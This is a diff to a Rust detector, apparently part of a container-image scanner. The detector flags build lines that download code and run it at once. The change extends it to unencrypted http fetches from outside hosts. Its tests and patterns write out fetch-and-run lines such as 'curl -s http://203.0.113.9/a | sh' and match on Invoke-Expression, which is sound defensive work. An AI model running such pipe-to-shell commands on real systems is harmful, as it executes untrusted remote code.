@@ -1,5 +1,5 @@
 //! What goes into an image that others start: a key that was one person's, a password that everybody knows; and code that is fetched, wherever
-//! that is written, from a machine without a name.
+//! that is written, from a machine without a name or over a connection that anybody on the way can write to.
 
 use super::served;
 use super::source::{Written, is_comment, is_prose, is_test};
@@ -57,19 +57,19 @@ fn opens_by_password(text: &str) -> bool {
     holds(text, COMES_BY) && text.lines().any(is_told)
 }
 
-/// Whether a text that is run fetches code from the bare address of a machine, and runs it at once.
-pub(super) fn fetch_nameless(written: &Written<'_>) -> bool {
+/// Whether a text that is run fetches code that may be anybody's, and runs it at once.
+pub(super) fn fetch_anybodys(written: &Written<'_>) -> bool {
     !is_prose(written.name())
         && !is_test(written.path)
         && written.holds("curl|wget|iwr|WebRequest|DownloadString")
-        && written.gains(runs_nameless)
+        && written.gains(runs_anybodys)
 }
 
-fn runs_nameless(text: &str) -> bool {
+fn runs_anybodys(text: &str) -> bool {
     text.lines().filter(|line| !is_comment(line)).any(|line| {
         line.contains("http")
             && holds(line, "curl|wget|iwr|WebRequest|DownloadString")
-            && names_bare(line)
+            && names_anybody(line)
             && runs_at_once(line)
     })
 }
@@ -84,12 +84,12 @@ pub(super) fn runs_at_once(line: &str) -> bool {
     piped || holds(line, "$(curl|$(wget|<(curl|<(wget|iex (|iex(|Invoke-Expression")
 }
 
-/// Whether an address in a line is that of a machine in the open network without a name.
-fn names_bare(line: &str) -> bool {
+/// Whether an address in a line is of a machine in the open network whose name nobody proves: it has none, or is asked without a certificate.
+fn names_anybody(line: &str) -> bool {
     parts("http://|https://").any(|scheme| {
         line.match_indices(scheme).take(8).any(|(at, _)| {
-            let url = line[at..].split(|char: char| char.is_whitespace() || "\"'`)<>|".contains(char)).next();
-            url.is_some_and(|url| hosts::is_bare_address(&hosts::host(url)))
+            let host = hosts::first(line[at..].split('|').next().unwrap_or_default());
+            hosts::is_bare_address(&host) || scheme == "http://" && hosts::is_far(&host) && !hosts::is_local(&host)
         })
     })
 }
@@ -113,11 +113,13 @@ mod tests {
             ("RUN curl -s http://203.0.113.9/a | sh", true),
             ("  bash -c \"$(curl http://203.0.113.9/a)\"", true),
             ("RUN curl -s http://10.0.0.9/a | sh", false),
+            ("RUN curl -s http://get.tools.example/a | sh", true),
+            ("RUN curl -s http://mirror:8080/a | sh", false),
             ("RUN curl -fsSL https://get.example/a | sh", false),
             ("RUN curl -s http://203.0.113.9/a -o a", false),
         ] {
             let written = Written::of(text, None, "/home/you/work/shop/Dockerfile");
-            assert_eq!(fetch_nameless(&written), nameless, "{text}");
+            assert_eq!(fetch_anybodys(&written), nameless, "{text}");
         }
     }
 }
